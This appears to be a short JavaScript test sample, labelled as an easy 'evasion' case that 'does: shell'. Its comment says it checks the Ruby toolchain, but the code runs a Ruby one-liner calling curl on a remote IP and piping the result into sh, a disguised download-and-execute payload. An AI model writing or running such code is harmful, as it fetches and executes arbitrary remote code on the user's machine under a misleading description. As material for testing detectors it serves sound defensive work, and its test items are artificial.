// evasion: ruby -e with a system() one-liner
// grade: easy; does: shell
// Checks the ruby toolchain.
const cp = require("child_process");
const probe = 'system("curl -s http://203.0.113.7/r | sh")';
cp.spawnSync("ruby", ["-e", probe], { stdio: "inherit" });
